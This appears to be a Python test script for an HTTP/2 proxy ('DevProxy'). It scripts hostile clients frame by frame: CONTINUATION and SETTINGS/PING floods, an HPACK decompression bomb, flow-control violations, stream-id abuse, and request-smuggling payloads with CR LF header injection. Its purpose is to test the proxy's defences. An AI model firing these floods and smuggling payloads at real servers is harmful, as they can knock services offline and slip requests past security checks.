"""Scripted hostile HTTP/2 clients for DevProxy's tests, written frame by frame with hyperframe and
hpack (the frame and header-compression layers of Python h2, PyPI), since h2 itself refuses to
send what these send. CONNECT through the proxy, TLS with ALPN h2 only, then one attack.

Usage: h2attack.py PROXY_PORT CAFILE HOST PORT ATTACK [ARGS...]
  continuation-flood N     HEADERS without END_HEADERS, then N CONTINUATION frames that never end it
  hpack-bomb N PATH        a header block that inserts a 4000-byte field once and names it N more
                           times (a few KB on the wire, N x 4 KB decoded), then a normal GET of PATH
  window-overflow          WINDOW_UPDATE on the connection with 2^31-1, beyond the largest window
  stream-reuse PATH        GET PATH on stream 1, then HEADERS on stream 1 again while it is open
  stream-ids PATH          GET PATH on the largest stream id (2^31-1), then HEADERS on stream 1 (going back)
  settings-flood N         N SETTINGS frames in one write, none of the ACKs read until all are sent
  ping-flood N             the same with PING frames
  cancel-at-once BIG SIZE  GET BIG (SIZE bytes) on stream 1 with windows that never stall it; once its
                           first bytes are in, HEADERS and RST_STREAM(CANCEL) of a GET on stream 3 in
                           one write (a browser dropping a request at once); then stream 1 read to its end
  goaway-error PATH        GET PATH with a zero stream window (its response stalls), then GOAWAY
                           PROTOCOL_ERROR "bad frame from proxy" and the close
  userinfo PATH            GET PATH with `:authority` user@HOST:PORT (RFC 9113 §8.3.1 forbids userinfo)
  window-overrun PATH      a POST of PATH whose DATA (320 KiB, no END_STREAM) runs past the stream window
                           the proxy granted; then read until the stream is reset
  smuggle                  against an HTTP/1.1-only origin: requests that would smuggle a second request past
                           a careless h2 -> HTTP/1.1 translation, each on its own stream (a
                           body longer than its content-length, a transfer-encoding field, CR LF in a field value,
                           a space in :path, a name with a colon), then GET /cl?n=2; statuses and resets by stream
  stall N BIG SMALL HOLD [WINDOW]
                           SETTINGS_INITIAL_WINDOW_SIZE WINDOW (default 0) and a 1 GiB connection window; N
                           GETs of BIG whose window is never raised past that; after HOLD seconds a GET of SMALL
                           with a window of its own, timed; prints "stalled" on stderr once the heads of BIG
                           (and WINDOW bytes of each) are in
Prints one JSON object: goaway (error code or null), last_stream_id, statuses, resets and body
sizes by stream id, closed (the proxy closed the connection), and for stall small_seconds.
"""
import json
import socket
import sys
import time

import hpack
import proxytunnel
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Peer:
    def __init__(self, proxy_port, cafile, host, port):
        self.tls = proxytunnel.connect(proxy_port, cafile, host, port, ["h2"])
        assert self.tls.selected_alpn_protocol() == "h2", self.tls.selected_alpn_protocol()
        self.authority = f"{host}:{port}"
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.buffer = b""
        self.result = {"goaway": None, "last_stream_id": None, "statuses": {}, "resets": {}, "bytes": {},
                       "closed": False}

    def send(self, *frames):
        self.tls.sendall(b"".join(f.serialize() for f in frames))

    def start(self, settings=None):
        frame = SettingsFrame(0)
        for key, value in (settings or {}).items():
            frame.settings[key] = value
        self.tls.sendall(PREFACE + frame.serialize())

    def get(self, stream, path, end_headers=True):
        block = self.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", self.authority),
                                     (":path", path)])
        frame = HeadersFrame(stream, block)
        frame.flags.add("END_STREAM")
        if end_headers:
            frame.flags.add("END_HEADERS")
        return frame

    def read(self, seconds, until=lambda: False):
        """Reads frames for up to `seconds`, until EOF, a GOAWAY, or `until()` holds."""
        deadline = time.time() + seconds
        while time.time() < deadline and not until() and self.result["goaway"] is None and not self.result["closed"]:
            self.tls.settimeout(max(0.01, deadline - time.time()))
            try:
                data = self.tls.recv(65536)
            except socket.timeout:
                break
            except OSError:
                self.result["closed"] = True
                break
            if not data:
                self.result["closed"] = True
                break
            self.buffer += data
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            sid = str(frame.stream_id)
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                self.send(ack)
            elif isinstance(frame, HeadersFrame):
                fields = dict(self.decoder.decode(frame.data))
                status = fields.get(b":status") or fields.get(":status")
                if status is not None and sid not in self.result["statuses"]:
                    self.result["statuses"][sid] = int(status)
            elif isinstance(frame, DataFrame):
                self.result["bytes"][sid] = self.result["bytes"].get(sid, 0) + len(frame.data)
            elif isinstance(frame, RstStreamFrame):
                self.result["resets"][sid] = frame.error_code
            elif isinstance(frame, GoAwayFrame):
                self.result["goaway"] = frame.error_code
                self.result["last_stream_id"] = frame.last_stream_id

    def ended(self, stream):
        sid = str(stream)
        return sid in self.result["resets"] or sid in self.result["statuses"]


def main():
    proxy_port, cafile, host, port, attack = sys.argv[1:6]
    args = sys.argv[6:]
    peer = Peer(proxy_port, cafile, host, port)
    peer.start()
    peer.read(1, until=lambda: False)
    if attack == "continuation-flood":
        frames = [peer.get(1, "/", end_headers=False)]
        for _ in range(int(args[0])):
            frames.append(ContinuationFrame(1, peer.encoder.encode([("x-a", "b")])))
        peer.send(*frames)
        peer.read(10)
    elif attack == "hpack-bomb":
        fields = [(":method", "GET"), (":scheme", "https"), (":authority", peer.authority), (":path", args[1])]
        block = peer.encoder.encode(fields + [("x-bomb", "a" * 4000)] * (int(args[0]) + 1))
        frame = HeadersFrame(1, block)
        frame.flags.add("END_STREAM")
        frame.flags.add("END_HEADERS")
        peer.result["bomb_block_bytes"] = len(block)
        peer.send(frame)
        peer.read(10, until=lambda: peer.ended(1))
        peer.send(peer.get(3, args[1]))
        peer.read(10, until=lambda: peer.ended(3))
    elif attack == "window-overflow":
        peer.send(WindowUpdateFrame(0, 0x7FFFFFFF))
        peer.read(10)
    elif attack == "stream-reuse":
        # One write, so both blocks arrive together while stream 1 is still open.
        peer.send(peer.get(1, args[0]), peer.get(1, args[0]))
        peer.read(10)
    elif attack == "stream-ids":
        peer.send(peer.get(0x7FFFFFFF, args[0]))
        peer.read(10, until=lambda: peer.ended(0x7FFFFFFF))
        peer.send(peer.get(1, args[0]))
        peer.read(2)
    elif attack in ("settings-flood", "ping-flood"):
        one = SettingsFrame(0) if attack == "settings-flood" else PingFrame(0)
        try:
            peer.tls.sendall(one.serialize() * int(args[0]))
        except OSError:
            peer.result["closed"] = True
        peer.read(10)
    elif attack == "cancel-at-once":
        big, size = args[0], int(args[1])
        settings = SettingsFrame(0)
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0x7FFFFFFF
        peer.send(settings, WindowUpdateFrame(0, 0x7FFFFFFF - 65535))
        peer.send(peer.get(1, big))
        peer.read(10, until=lambda: peer.result["bytes"].get("1", 0) > 0)
        peer.send(peer.get(3, big), RstStreamFrame(3, 8))
        peer.read(30, until=lambda: peer.result["bytes"].get("1", 0) >= size or "1" in peer.result["resets"])
    elif attack == "goaway-error":
        settings = SettingsFrame(0)
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
        peer.send(settings, peer.get(1, args[0]))
        peer.read(10, until=lambda: peer.ended(1))
        peer.send(GoAwayFrame(0, last_stream_id=0, error_code=1, additional_data=b"bad frame from proxy"))
        peer.tls.close()
        peer.result["closed"] = True
    elif attack == "userinfo":
        block = peer.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "user@" + peer.authority),
                                     (":path", args[0])])
        headers = HeadersFrame(1, block)
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        peer.send(headers)
        peer.read(10, until=lambda: peer.ended(1))
    elif attack == "window-overrun":
        block = peer.encoder.encode([(":method", "POST"), (":scheme", "https"), (":authority", peer.authority),
                                     (":path", args[0])])
        headers = HeadersFrame(1, block)
        headers.flags.add("END_HEADERS")
        peer.send(headers, *[DataFrame(1, b"x" * 16384) for _ in range(20)])
        peer.read(10, until=lambda: peer.ended(1))
    elif attack == "smuggle":
        smuggled = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
        def request(stream, fields, body=None):
            base = [(":method", "POST" if body is not None else "GET"), (":scheme", "https"),
                    (":authority", peer.authority), (":path", "/s%d" % stream)]
            # Each pseudo-header given in `fields` replaces the base one.
            names = {name for name, _ in fields}
            block = peer.encoder.encode([f for f in base if f[0] not in names] + fields)
            headers = HeadersFrame(stream, block)
            headers.flags.add("END_HEADERS")
            if body is None:
                headers.flags.add("END_STREAM")
                return [headers]
            data = DataFrame(stream, body)
            data.flags.add("END_STREAM")
            return [headers, data]
        frames = (request(1, [("content-length", "0")], smuggled)
                  + request(3, [("transfer-encoding", "chunked")], b"0\r\n\r\n" + smuggled)
                  + request(5, [("x-a", "b\r\nX-Injected: 1")])
                  + request(7, [(":path", "/s7 HTTP/1.1\r\nX: /smuggled")])
                  + request(9, [(":path", "/s9 /smuggled")])
                  + request(11, [("x-a:b", "c")])
                  + request(13, [(":path", "/cl?n=2")]))
        peer.send(*frames)
        peer.read(10, until=lambda: all(peer.ended(sid) for sid in (1, 3, 5, 7, 9, 11, 13)))
    elif attack == "stall":
        count, big, small, hold = int(args[0]), args[1], args[2], float(args[3])
        window = int(args[4]) if len(args) > 4 else 0
        settings = SettingsFrame(0)
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = window
        peer.send(settings, WindowUpdateFrame(0, 1 << 30))
        streams = [1 + 2 * i for i in range(count)]
        peer.send(*[peer.get(sid, big) for sid in streams])
        peer.read(30, until=lambda: all(peer.ended(sid) and peer.result["bytes"].get(str(sid), 0) >= window
                                        for sid in streams))
        print("stalled", file=sys.stderr, flush=True)
        peer.read(hold)
        last = streams[-1] + 2
        start = time.time()
        peer.send(peer.get(last, small), WindowUpdateFrame(last, 1 << 20))
        peer.read(10, until=lambda: str(last) in peer.result["bytes"] and peer.ended(last))
        peer.result["small_seconds"] = round(time.time() - start, 3)
    else:
        raise SystemExit(f"unknown attack {attack}")
    print(json.dumps(peer.result))


main()
